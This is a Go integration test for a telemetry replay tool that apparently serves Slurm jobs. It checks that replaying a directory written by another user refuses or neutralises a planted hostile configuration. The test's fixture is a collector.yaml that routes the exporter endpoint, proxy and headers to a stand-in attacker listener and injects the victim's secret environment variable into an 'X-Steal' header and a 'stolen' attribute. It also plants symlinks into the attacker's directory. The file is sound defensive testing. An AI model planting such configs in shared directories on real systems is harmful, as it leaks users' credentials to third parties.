package plugin_test

import (
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/gym-otel-spank/gym-otel-spank/internal/testenv"
)

// attackerSink is a real listener standing in for an attacker's endpoint:
// it records every byte any connection sends it.
type attackerSink struct {
	l     net.Listener
	mu    sync.Mutex
	conns int
	got   strings.Builder
}

func newAttackerSink(t *testing.T) *attackerSink {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &attackerSink{l: l}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			s.mu.Lock()
			s.conns++
			s.mu.Unlock()
			go func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(30 * time.Second))
				buf := make([]byte, 64<<10)
				for {
					n, err := c.Read(buf)
					s.mu.Lock()
					s.got.Write(buf[:n])
					s.mu.Unlock()
					if err != nil {
						return
					}
					if n > 0 {
						_, _ = io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
					}
				}
			}()
		}
	}()
	return s
}

func (s *attackerSink) port() int { return s.l.Addr().(*net.TCPAddr).Port }

func (s *attackerSink) report() (int, string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.conns, s.got.String()
}

// waitSpans waits (bounded) until the backend's files hold want spans of
// job id, and fails if they hold more or fewer.
func waitSpans(t *testing.T, id string, want int) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		got := backendItems(t, id).spans
		if got == want {
			return
		}
		if got > want || time.Now().After(deadline) {
			t.Errorf("the backend holds %d spans of %s, want %d", got, id, want)
			return
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// asNobody runs a bash command line as another local user (not the jobs'
// user), with a minimal environment.
func asNobody(t *testing.T, user, group, cmdline string) {
	t.Helper()
	out, err := run("setpriv", "--reuid="+user, "--regid="+group, "--clear-groups", "env", "-i", "PATH=/usr/bin:/bin",
		"/bin/bash", "-c", cmdline)
	if err != nil {
		t.Fatalf("as %s: %s: %v\n%s", user, cmdline, err, out)
	}
}

// spanLine is one OTLP-JSON trace line of one span, its resource tagged
// slurm_job_id=tag.
func spanLine(tag string) string {
	return `{"resourceSpans":[{"resource":{"attributes":[{"key":"slurm_job_id","value":{"stringValue":"` + tag +
		`"}}]},"scopeSpans":[{"spans":[{"traceId":"5b8efff798038103d269b633813fc60c","spanId":"eee19b7ec3c1b174","name":"r","kind":1,"startTimeUnixNano":"1700000000000000000","endTimeUnixNano":"1700000001000000000"}]}]}]}`
}

// TestHostileReplay: another local user (nobody) writes a run dir in a
// shared, world-writable project dir whose collector.yaml names its own
// endpoint (a real listener here) and a variable of the victim's secrets,
// in the exporter's headers and the token processor. The victim
// (the jobs' user, with that secret and the backend token in its
// environment) replays it:
//   - without flags, with the site file, or with only one of --endpoint and
//     --token-env: refused, the message naming the owner and both flags;
//   - with both: the data goes to the named backend with the named token;
//   - the victim's own dir whose links/ and nodes/ entries point into the
//     attacker's dir: those are not followed.
//
// Every time, the attacker's listener gets no connection and the secret
// is nowhere in what the backend holds.
func TestHostileReplay(t *testing.T) {
	sink := newAttackerSink(t)
	const secret = "s3cret-cloud-key-9f2a71"
	tag := "replay-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	shared, err := os.MkdirTemp("", "gym-otel-shared-project.")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(shared)
	if err := os.Chmod(shared, 0o1777); err != nil {
		t.Fatal(err)
	}
	evil := filepath.Join(shared, "r7")
	cfg := fmt.Sprintf(`exporters:
  otlp_http/backend:
    endpoint: http://127.0.0.1:%d
    traces_endpoint: http://127.0.0.1:%d/v1/traces
    headers:
      Authorization: Bearer ${env:SECRET_CLOUD_KEY}
      X-Steal: ${env:SECRET_CLOUD_KEY}
    proxy_url: http://127.0.0.1:%d
    timeout: 5s
processors:
  resource/backend_auth:
    attributes:
      - key: stolen
        value: ${env:SECRET_CLOUD_KEY}
        action: upsert
`, sink.port(), sink.port(), sink.port())
	// The attacker writes its files as itself (copied from a staging dir).
	staging := filepath.Join(shared, "staging")
	if err := os.Mkdir(staging, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, body := range map[string]string{"collector.yaml": cfg, "attacker.jsonl": spanLine(tag+"-attacker") + "\n", "own.jsonl": spanLine(tag+"-own") + "\n"} {
		if err := os.WriteFile(filepath.Join(staging, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	asNobody(t, "nobody", "nogroup", fmt.Sprintf("umask 022 && mkdir -p %[1]s/otel/nodes/gn2 && cp %[2]s/collector.yaml %[1]s/otel/ && cp %[2]s/attacker.jsonl %[1]s/otel/traces.jsonl && cp %[2]s/attacker.jsonl %[1]s/otel/nodes/gn2/traces.jsonl",
		evil, staging))
	if st, err := os.Stat(filepath.Join(evil, "otel", "collector.yaml")); err != nil || st.Sys().(*syscall.Stat_t).Uid != 65534 {
		t.Fatalf("the attacker's collector.yaml: %v", err)
	}

	user := slurmEnv["GOS_SLURM_USER"]
	env := append(tokenEnv(), "SECRET_CLOUD_KEY="+secret)
	site := filepath.Join(plugDir, "site.yaml")
	replay := fmt.Sprintf("%s/gym-otel-spank replay --binary %s --timeout 60s", plugDir, testenv.Collector(t))
	for _, flags := range []string{
		"",
		"--site " + site,
		"--site " + site + " --token-env SECRET_CLOUD_KEY",
		"--endpoint http://127.0.0.1:" + backendPort,
	} {
		r := asUser(t, 90*time.Second, env, replay+" "+flags+" "+evil)
		t.Logf("replay %s (as %s): exit %d\n%s%s", flags, user, r.code, r.stdout, r.stderr)
		if r.code == 0 || !strings.Contains(r.stderr, "is owned by nobody (uid 65534), not by you") ||
			!strings.Contains(r.stderr, "--endpoint URL and --token-env NAME") {
			t.Errorf("replay %s of another user's dir: exit %d, want a refusal naming the owner and both flags:\n%s%s", flags, r.code, r.stdout, r.stderr)
		}
	}

	// Both flags: the victim decides where and with what; the dir's
	// endpoint, headers and processor are not used.
	r := asUser(t, 90*time.Second, env, replay+" --endpoint http://127.0.0.1:"+backendPort+" --token-env OTEL_TOKEN "+evil)
	t.Logf("replay with both flags: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	if r.code != 0 || !strings.Contains(r.stdout, "replay complete") || !strings.Contains(r.stdout, "not done for a directory someone else wrote") {
		t.Errorf("replay with both flags: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	waitSpans(t, tag+"-attacker", 2)

	// The victim's own run, its links/ and nodes/ entries pointing into
	// the attacker's dir: replayed from the site file, the entries outside
	// not followed.
	own := filepath.Join(jobsDir, "replay-own-"+tag)
	r = asUser(t, 30*time.Second, nil, fmt.Sprintf("mkdir -p %[1]s/otel/nodes %[1]s/otel/links && cp %[2]s/own.jsonl %[1]s/otel/traces.jsonl && printf 'exporters:\\n  otlp_http/backend:\\n    timeout: 5s\\n' > %[1]s/otel/collector.yaml && ln -s %[3]s/otel %[1]s/otel/links/66 && ln -s %[3]s/otel/nodes/gn2 %[1]s/otel/nodes/gn9",
		own, staging, evil))
	if r.code != 0 {
		t.Fatalf("the victim's own dir: %s%s", r.stdout, r.stderr)
	}
	r = asUser(t, 90*time.Second, env, replay+" --site "+site+" "+own)
	t.Logf("replay of the own dir: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	if r.code != 0 || !strings.Contains(r.stdout, "replay complete: the backend http://127.0.0.1:"+backendPort) ||
		!strings.Contains(r.stdout, own+"/otel/links/66 leads outside") || !strings.Contains(r.stdout, own+"/otel/nodes/gn9 leads outside") {
		t.Errorf("replay of the own dir: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	waitSpans(t, tag+"-own", 1)
	if got := backendItems(t, tag+"-attacker"); got.spans != 2 {
		t.Errorf("the backend holds %d spans of the attacker's dir after the own dir's replay, want still 2 (its links not followed)", got.spans)
	}

	conns, got := sink.report()
	if conns != 0 || got != "" {
		t.Errorf("the attacker's listener got %d connection(s): %q", conns, got)
	}
	for _, sig := range []string{"traces", "metrics", "logs"} {
		data, _ := os.ReadFile(filepath.Join(backendDir, sig+".jsonl"))
		if strings.Contains(string(data), secret) || strings.Contains(string(data), backendToken) {
			t.Errorf("the secret or the token is in the backend's %s.jsonl", sig)
		}
	}
}
